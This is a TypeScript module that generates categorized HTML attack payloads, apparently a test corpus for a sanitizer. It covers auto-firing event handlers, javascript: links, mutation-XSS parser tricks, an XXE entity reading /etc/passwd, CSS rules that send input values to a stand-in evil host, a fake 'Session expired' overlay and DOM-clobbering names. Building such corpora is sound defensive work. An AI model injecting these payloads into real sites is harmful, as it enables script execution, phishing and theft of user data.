import { evil, run } from './marks.ts';

/** Elements with a handler that would run without any interaction. */
const selfStarting: Record<string, string> = {
  onerror: 'img src=q',
  onload: 'img src=data:,',
  onfocus: 'a href=# autofocus tabindex=0',
  onfocusin: 'div contenteditable autofocus',
  onanimationstart: 'b style=animation:x',
  onanimationend: 'i style="animation:x 1ms"',
  ontransitionend: 'u style=transition:all',
  onpageshow: 'body',
  onhashchange: 'body',
  onmessage: 'body',
  onresize: 'body',
  onscroll: 'body',
  onunload: 'body',
  oncanplay: 'audio src=q',
  onloadstart: 'video src=q',
  onplay: 'video autoplay src=q',
  oncuechange: 'track',
  onwheel: 'section',
  oninvalid: 'input required',
  onselect: 'textarea autofocus',
  onpointerrawupdate: 'main',
  onscrollend: 'aside',
  oncontentvisibilityautostatechange: 'p style=content-visibility:auto',
  onsecuritypolicyviolation: 'article',
  onbegin: 'svg><animate attributeName=x',
  onend: 'svg><set attributeName=y dur=1ms',
  onrepeat: 'svg><animateMotion repeatCount=2 dur=1ms',
};

const handlers = Object.entries(selfStarting).map(([handler, element]) => `<${element} ${handler}="${run}">word`);

/** Attributes with which an element loads something. */
const fetching = [
  'img src',
  'img lowsrc',
  'img dynsrc',
  'picture><source srcset',
  'input type=image src',
  'video src',
  'audio src',
  'video poster',
  'video><track src',
  'embed src',
  'object data',
  'iframe src',
  'frame src',
  'script src',
  'link rel=icon href',
  'link rel=preload as=image href',
  'link rel=modulepreload href',
  'link rel=manifest href',
  'body background',
  'td background',
  'svg><image xlink:href',
  'svg><feImage href',
  'svg><use xlink:href',
  'svg><script href',
  'html manifest',
  'blockquote cite',
  'command icon',
].map((opening, index) => `<${opening}="${evil}/fetch-${index}">`);

/** Attributes with which an element links to something that runs. */
const leading = [
  'a href',
  'area href',
  'form action',
  'button formaction',
  'iframe src',
  'object data',
  'embed src',
  'base href',
  'math href',
  'svg><a href',
  'svg><animate attributeName=href values',
  'svg><set attributeName=href to',
].flatMap((opening) => [
  `<${opening}="javascript:${run}">go`,
  `<${opening}="data:text/html,<script>${run}</script>">go`,
]);

/** Markup that changes its meaning when it is parsed a second time, or by another parser. */
const twiceParsed = [
  `<noscript><style></noscript><img src=q onerror=${run}>`,
  `<svg><style><!--</style><img src=q onerror=${run}>-->`,
  `<math><annotation-xml encoding="text/html"><img src=q onerror=${run}></annotation-xml></math>`,
  `<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=q onerror=${run}>">`,
  `<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=q onerror=${run}>"></svg>`,
  `<svg></p><style><a title="</style><img src=q onerror=${run}>">`,
  `<textarea><p title="</textarea><img src=q onerror=${run}>">`,
  `<plaintext><img src=q onerror=${run}>`,
  `<iframe><!--</iframe><img src=q onerror=${run}>-->`,
  `<style>*{}</style\n><img src=q onerror=${run}>`,
  `<a title="\`<img src=q onerror=${run}>\`">tick</a>`,
  `<!doctype html SYSTEM "${evil}/x.dtd">`,
  `<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><!ENTITY y "<script>${run}</script>">&y;</svg>`,
  `<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${evil}/x"/></x>`,
  `<?xml-stylesheet href="${evil}/x.xsl"?>`,
  `<custom-element onclick=${run}>x</custom-element>`,
  `<p is="evil-thing" onclick=${run}>x</p>`,
  `<slot name=a onslotchange=${run}></slot>`,
  `<template shadowrootmode=open><img src=q onerror=${run}></template>`,
];

/** Styles that would load, cover or spoof something. */
const styles = [
  `<p style="background-image:image-set('${evil}/a.png' 1x)">x</p>`,
  `<p style="cursor:url(${evil}/c.cur),auto">x</p>`,
  `<p style="list-style:url(${evil}/l.png)">x</p>`,
  `<p style="content:url(${evil}/n.png)">x</p>`,
  `<p style="mask:url(${evil}/m.svg#a)">x</p>`,
  `<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:white">Session expired</p>`,
  `<style>@font-face{font-family:x;src:url(${evil}/f.woff2)}*{font-family:x}</style>`,
  `<style>input[value^=a]{background:url(${evil}/a)}</style>`,
  `<style>.permission{display:none}</style>`,
  `<svg><style>@import '${evil}/s.css'</style></svg>`,
  `<svg><rect fill="url(${evil}/p.svg#a)"/></svg>`,
  `<svg><filter id=f><feImage href="${evil}/f.png"/></filter><rect filter="url(#f)"/></svg>`,
];

/** Names that would shadow what a page looks up by name. */
const clobbering = ['root', 'body', 'cookie', 'location', '__proto__', 'liminal', 'defaultView'].map(
  (name) => `<form id="${name}"><input name="${name}"></form><img name="${name}">`,
);

export const htmlFamilies = { handlers, fetching, leading, twiceParsed, styles, clobbering };
